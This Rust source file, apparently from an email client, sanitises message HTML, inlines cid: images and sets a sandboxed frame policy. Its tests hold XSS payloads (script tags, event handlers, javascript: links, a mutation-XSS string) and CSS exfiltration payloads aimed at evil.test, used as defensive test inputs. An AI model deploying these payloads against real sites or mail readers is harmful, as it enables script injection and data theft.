//! A message's HTML made safe to show: ammonia (html5ever) keeps a list of
//! harmless tags and attributes and drops everything else — scripts,
//! event handlers, `javascript:` and other schemes, `<style>` blocks (the
//! tool of CSS exfiltration), forms, frames, `<base>`. Remote images are
//! dropped unless the reader allowed them. What is left is shown in a
//! frame that is sandboxed (no scripts, no same origin) under its own
//! Content-Security-Policy ([`frame_csp`]): two locks, each enough alone.

use std::borrow::Cow;
use std::collections::HashMap;
use std::sync::Arc;

/// Images of the message itself that its HTML names by `cid:` (RFC 2392),
/// as `data:` URLs: the frame may show them (its policy allows `data:`
/// images, nothing from any server).
pub type Inline = HashMap<String, String>;

/// Most bytes of inline images put into one frame.
pub const MAX_INLINE: usize = 8 * 1024 * 1024;

/// The image parts of `m` with a Content-ID, as `data:` URLs (up to
/// [`MAX_INLINE`] bytes in all).
pub fn inline_images(m: &mail_parser::Message) -> Inline {
    use base64::Engine;
    use mail_parser::MimeHeaders;
    let mut out = Inline::new();
    let mut budget = MAX_INLINE;
    for p in &m.parts {
        let (Some(id), Some(ct)) = (p.content_id(), p.content_type()) else {
            continue;
        };
        if !ct.ctype().eq_ignore_ascii_case("image") {
            continue;
        }
        // Only image types a browser shows as images, never SVG (a
        // document that may hold script, even if the frame would not run it).
        let sub = ct.subtype().unwrap_or("").to_ascii_lowercase();
        if !matches!(
            sub.as_str(),
            "png" | "jpeg" | "jpg" | "gif" | "webp" | "bmp"
        ) {
            continue;
        }
        let bytes = p.contents();
        if bytes.len() > budget {
            continue;
        }
        budget -= bytes.len();
        let id = id
            .trim()
            .trim_start_matches('<')
            .trim_end_matches('>')
            .to_string();
        let b64 = base64::engine::general_purpose::STANDARD.encode(bytes);
        out.insert(id, format!("data:image/{sub};base64,{b64}"));
    }
    out
}

/// The sanitised HTML, as a whole document for the frame.
#[cfg(test)]
pub fn sanitize(html: &str, remote: bool) -> String {
    sanitize_with(html, remote, Inline::new())
}

/// [`sanitize`], with `cid:` images replaced from `inline`.
pub fn sanitize_with(html: &str, remote: bool, inline: Inline) -> String {
    let inline = Arc::new(inline);
    let mut b = ammonia::Builder::default();
    b.url_schemes(
        ["http", "https", "mailto", "cid", "data"]
            .into_iter()
            .collect(),
    )
    .link_rel(Some("noopener noreferrer"))
    .set_tag_attribute_value("a", "target", "_blank")
    .add_generic_attributes([
        "style", "align", "valign", "width", "height", "bgcolor", "color",
    ])
    .add_tags(["font", "center"])
    .attribute_filter(move |element, attribute, value| {
        let v = value.trim_start().to_ascii_lowercase();
        match (element, attribute) {
            // Images: inline ones (data:), and remote ones only when
            // allowed (a remote image tells the sender you read it).
            ("img", "src") => {
                if let Some(id) = value.trim().strip_prefix("cid:") {
                    // RFC 2392: the id is URL-encoded in the reference.
                    inline
                        .get(&percent_decoded(id))
                        .map(|d| Cow::Owned(d.clone()))
                } else if v.starts_with("data:image/")
                    || (remote && (v.starts_with("https:") || v.starts_with("http:")))
                {
                    Some(Cow::Borrowed(value))
                } else {
                    None
                }
            }
            // Links go to the web only (no data: documents, no cid:).
            (_, "href") => {
                if v.starts_with("data:") || v.starts_with("cid:") {
                    None
                } else {
                    Some(Cow::Borrowed(value))
                }
            }
            // Inline styles stay, but never load anything: `url(`,
            // `image-set(`, `@import` and `expression(` are cut.
            (_, "style") => {
                let compact: String = v.chars().filter(|c| !c.is_whitespace()).collect();
                if compact.contains("url(")
                    || compact.contains("image-set(")
                    || compact.contains("@import")
                    || compact.contains("expression(")
                    || compact.contains('\\')
                {
                    None
                } else {
                    Some(Cow::Borrowed(value))
                }
            }
            _ => Some(Cow::Borrowed(value)),
        }
    });
    let body = b.clean(html).to_string();
    format!(
        "<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\"><meta name=\"referrer\" content=\"no-referrer\"></head><body>{body}</body></html>\n"
    )
}

fn percent_decoded(s: &str) -> String {
    let b = s.as_bytes();
    let mut out = Vec::with_capacity(b.len());
    let mut i = 0;
    while i < b.len() {
        if b[i] == b'%'
            && i + 2 < b.len()
            && let Ok(v) =
                u8::from_str_radix(std::str::from_utf8(&b[i + 1..i + 3]).unwrap_or("zz"), 16)
        {
            out.push(v);
            i += 3;
        } else {
            out.push(b[i]);
            i += 1;
        }
    }
    String::from_utf8_lossy(&out).into_owned()
}

/// The policy of the message frame: no script at all, no connection, no
/// form; images inline, remote only when allowed; styles inline only;
/// sandboxed (a unique origin: no cookies, no access to the page).
pub fn frame_csp(remote: bool) -> String {
    let img = if remote {
        "data: https: http:"
    } else {
        "data:"
    };
    format!(
        "default-src 'none'; img-src {img}; style-src 'unsafe-inline'; font-src data:; form-action 'none'; frame-ancestors 'self'; base-uri 'none'; sandbox allow-popups allow-popups-to-escape-sandbox"
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    fn clean(s: &str) -> String {
        sanitize(s, false)
    }

    #[test]
    fn scripts_and_handlers_are_removed() {
        for attack in [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "<svg onload=alert(1)><circle r=1></svg>",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<a href=\" JaVaScRiPt:alert(1)\">x</a>",
            "<iframe src=\"https://evil.test\"></iframe>",
            "<object data=\"x.swf\"></object>",
            "<form action=\"https://evil.test\"><input name=p></form>",
            "<base href=\"https://evil.test/\">",
            "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.test\">",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
            "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
        ] {
            let out = clean(attack).to_lowercase();
            let body = out.split("<body>").nth(1).unwrap();
            for bad in [
                "<script",
                "onerror",
                "onload",
                "javascript:",
                "<iframe",
                "<object",
                "<form",
                "<base",
                "http-equiv",
                "data:text",
            ] {
                assert!(!body.contains(bad), "{attack} left {bad}: {out}");
            }
        }
    }

    #[test]
    fn css_cannot_load_anything() {
        let out = clean(
            "<style>input[value^=a]{background:url(https://evil.test/a)}</style>\
             <p style=\"background: URL( 'https://evil.test/x')\">a</p>\
             <p style=\"background:u\\72l(https://evil.test/x)\">b</p>\
             <p style=\"color: red\">c</p>",
        );
        assert!(!out.contains("evil.test"), "{out}");
        assert!(out.contains("color: red"), "{out}");
    }

    #[test]
    fn remote_images_only_when_allowed() {
        let html =
            "<img src=\"https://tracker.test/p.gif\"><img src=\"data:image/png;base64,AAAA\">";
        let blocked = sanitize(html, false);
        assert!(!blocked.contains("tracker.test"), "{blocked}");
        assert!(blocked.contains("data:image/png"), "{blocked}");
        assert!(sanitize(html, true).contains("tracker.test"));
    }

    #[test]
    fn links_open_outside_without_referrer() {
        let out = clean("<a href=\"https://example.test/\">x</a>");
        assert!(out.contains("rel=\"noopener noreferrer\""), "{out}");
        assert!(out.contains("target=\"_blank\""), "{out}");
    }

    #[test]
    fn cid_images_are_shown_inline_and_nothing_else_is_fetched() {
        let mut inline = Inline::new();
        inline.insert("logo@x".into(), "data:image/png;base64,AAAA".into());
        let out = sanitize_with(
            "<img src=\"cid:logo@x\"><img src=\"cid:logo%40x\"><img src=\"cid:missing\">",
            false,
            inline,
        );
        assert_eq!(
            out.matches("data:image/png;base64,AAAA").count(),
            2,
            "{out}"
        );
        assert!(!out.contains("cid:"), "{out}");
    }

    #[test]
    fn the_frame_policy_forbids_scripts() {
        let p = frame_csp(false);
        assert!(p.contains("default-src 'none'"));
        assert!(p.contains("sandbox"));
        assert!(!p.contains("script-src"));
        assert!(!p.contains("https:"));
    }
}
